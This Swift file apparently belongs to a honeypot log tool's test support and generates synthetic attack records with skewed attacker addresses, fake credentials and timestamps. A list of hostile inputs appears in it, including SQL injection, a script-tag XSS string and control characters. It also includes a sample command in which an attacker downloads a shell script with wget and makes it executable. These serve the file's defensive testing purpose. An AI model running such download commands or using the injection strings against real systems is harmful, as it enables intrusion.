internal import Basics
internal import Glibc
internal import Records
internal import TestSupport

/// Makes records as a fleet under attack has them: 20 deckies, 6 services, 12 event types, 5,000 attackers and 20,000
/// credentials of which a few are common, and 30 days.
struct RecordMaker {
  private static let days: Int64 = 30
  private static let services = ["ssh", "http", "ftp", "smtp", "telnet", "mysql"]
  private static let types = [
    "login_attempt", "connect", "disconnect", "command", "request", "download", "upload", "auth_failed",
    "scan",
    "session_opened", "session_closed", "exploit",
  ]
  private static let hostile = [
    #"\"; DROP TABLE event; --"#, #"<script>alert(1)<\/script>"#, #"\u001b[2J\u0000\u2028"#, #"' OR '1'='1"#,
    #"\" NEAR(\" AND ) *"#, "日本語 пароль 🐙",
  ]

  private var random: SplitMix64
  private let start: Int64
  private let step: Int64
  private var number: Int64 = 0

  /// - Parameters:
  ///   - count: how many there will be.
  ///   - end: when the last will be, in seconds since 1970.
  init(seed: UInt64, count: Int, end: Int64) {
    random = SplitMix64(seed: seed)
    start = (end - Self.days * 86_400) * 1_000_000_000
    step = Self.days * 86_400 * 1_000_000_000 / Int64(count)
  }

  /// Some are frequent: the n-th about half as often as the n/2-th.
  private mutating func skewed(_ count: Int) -> Int {
    let uniform = Double(random.below(1 << 30)) / Double(1 << 30)
    return min(count - 1, Int(pow(Double(count), uniform)) - 1)
  }

  /// The next record, as a line.
  mutating func next() -> String {
    let nanoseconds = start + number * step + Int64(random.below(1_000_000))
    number += 1
    let attacker = skewed(5000)
    let address =
      attacker % 10 == 9
      ? "2001:db8::\(String(attacker, radix: 16))"
      : "203.\(attacker / 250 % 250).\(attacker % 250).\(attacker * 7 % 250)"
    let decky = "decky-\(random.below(20))"
    let service = Self.services[random.below(6)]
    let type = Self.types[min(random.below(12), random.below(12))]
    var fields = "\"src_ip\":\"\(address)\",\"session\":\"\(String(random.next(), radix: 16))\""
    var message = "\(service) \(type) from port \(random.below(65_536))"
    if type == "login_attempt" || type == "auth_failed" {
      let credential = skewed(20_000)
      fields += ",\"username\":\"user\(credential % 137)\",\"password\":\"pass\(credential)\""
      message = "authentication failure for user\(credential % 137)"
    } else if type == "command" {
      fields += ",\"command\":\"wget http:\\/\\/198.51.100.\(random.below(256))\\/x.sh && chmod 777 x.sh\""
    }
    if random.isOneIn(100) { message += " " + random.pick(Self.hostile) }
    let stamp = Self.stamp(nanoseconds)
    let raw =
      "<134>1 \(stamp) \(decky) \(service) - \(type) [decky@32473 \(fields.replacingQuotes)] \(message)"
    return "{\"timestamp\":\"\(Self.date(nanoseconds))\",\"decky\":\"\(decky)\",\"service\":\"\(service)\","
      + "\"event_type\":\"\(type)\",\"attacker_ip\":\"\(address)\",\"fields\":{\(fields)},\"msg\":\"\(message)\","
      + "\"raw_line\":\"\(raw)\",\"attribution\":\"field\",\"observed\":\"\(stamp)\","
      + "\"origin\":{\"container\":\"\(decky)-\(service)\",\"id\":\"66f1112243b1\",\"decky\":\"\(decky)\","
      + "\"service\":\"\(service)\"}}\n"
  }

  /// `2026-11-23T03:55:14.123456789Z`
  private static func stamp(_ nanoseconds: Int64) -> String {
    let fraction = String(nanoseconds % 1_000_000_000)
    return RecordTime(nanoseconds: nanoseconds).rfc3339Seconds.dropLast() + "."
      + String(repeating: "0", count: 9 - fraction.count) + fraction + "Z"
  }

  /// `2026-11-23 03:55:14`
  private static func date(_ nanoseconds: Int64) -> String {
    String(RecordTime(nanoseconds: nanoseconds).rfc3339Seconds.dropLast().map { $0 == "T" ? " " : $0 })
  }
}

extension String {
  /// As it stands within a JSON string.
  fileprivate var replacingQuotes: String { String(flatMap { $0 == "\"" ? "\\\"" : "\($0)" }) }
}
